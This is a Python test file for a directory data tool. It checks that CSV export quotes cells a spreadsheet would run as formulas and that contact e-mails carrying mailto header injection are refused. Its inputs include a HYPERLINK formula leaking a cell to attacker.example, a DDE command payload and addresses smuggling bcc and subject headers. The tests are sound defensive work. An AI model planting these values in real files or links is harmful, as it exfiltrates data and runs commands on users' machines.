"""Values that reach other programs: a CSV cell that a spreadsheet would run as a formula
is neutralised (and the JSON keeps the value); an e-mail address that a `mailto:` link
would read as extra headers is refused, with a message that says why."""

from __future__ import annotations

import csv
import io

import pytest

from c2c_data.tables import Field, Table, rows, spreadsheet_safe, to_csv
from c2c_registry.urls import Urls

from support.tiny_site import problems_after

URLS = Urls()
ORG = "organisations/alpha-trust.yaml"
SERVICE_FILE = "services/night-shelter.yaml"


# -- CSV cells --------------------------------------------------------------------------------

@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "+44 121 496 0000",
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Night shelter", "0121 496 0000", "2026-11-23", "'quoted already", "a=b", "x@y"])
def test_other_cells_are_left_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_to_csv_neutralises_every_kind_of_column_and_json_keeps_the_value():
    table = Table("t", "T", "", (Field("name", "string", "", lambda r: r["name"]),
                                 Field("tags", "list", "", lambda r: r["tags"]),
                                 Field("n", "integer", "", lambda r: r["n"])), ("name",))
    data = rows(table, [{"name": "=1+1", "tags": ["@a", "b"], "n": 3}, {"name": "Plain", "tags": [], "n": 0}])
    assert data[0] == {"name": "=1+1", "tags": ["@a", "b"], "n": 3}  # the JSON rows: as written
    assert list(csv.reader(io.StringIO(to_csv(table, data)))) == [
        ["name", "tags", "n"], ["'=1+1", "'@a; b", "3"], ["Plain", "", "0"]]


# -- e-mail addresses ----------------------------------------------------------------------------

REFUSED = [
    "x?bcc=someone%40elsewhere&x=@example.org",  # a hidden copy to someone else
    "help?subject=Urgent@example.org",
    "a&cc=b@example.org",
    "help%0Abcc@example.org",  # an encoded line break
    "help#@example.org",  # a link would end the address at #
]


@pytest.mark.parametrize("email", REFUSED)
@pytest.mark.rule("bad-format")
def test_an_email_a_mailto_link_would_read_as_headers_is_refused(tmp_path, email):
    problems = problems_after(tmp_path, ORG, "website: https://alpha.example.org",
                              f"website: https://alpha.example.org\ncontact_email: '{email}'")
    assert [(p.line, p.field, p.rule) for p in problems] == [(8, "contact_email", "bad-format")]
    assert problems[0].message == (
        f"'{email}' is not in the right form; write one address like help@example.org, with no ?, &, % or # in it "
        "(in an email link they would add hidden recipients or change the address)")


@pytest.mark.rule("bad-format")
def test_a_service_email_is_checked_the_same_way(tmp_path):
    problems = problems_after(tmp_path, SERVICE_FILE, 'contact:\n  phone: "024 7649 0001"',
                              'contact:\n  phone: "024 7649 0001"\n  email: "x?bcc=someone%40elsewhere&x=@example.org"')
    assert [(p.field, p.rule) for p in problems] == [("contact.email", "bad-format")]


@pytest.mark.parametrize("email", ["help@example.org", "first.last+housing@council.example.gov.uk",
                                   "o'brien@example.org", "team_b@example.org"])
def test_ordinary_addresses_are_still_accepted(tmp_path, email):
    assert problems_after(tmp_path, ORG, "website: https://alpha.example.org",
                          f"website: https://alpha.example.org\ncontact_email: \"{email}\"") == []
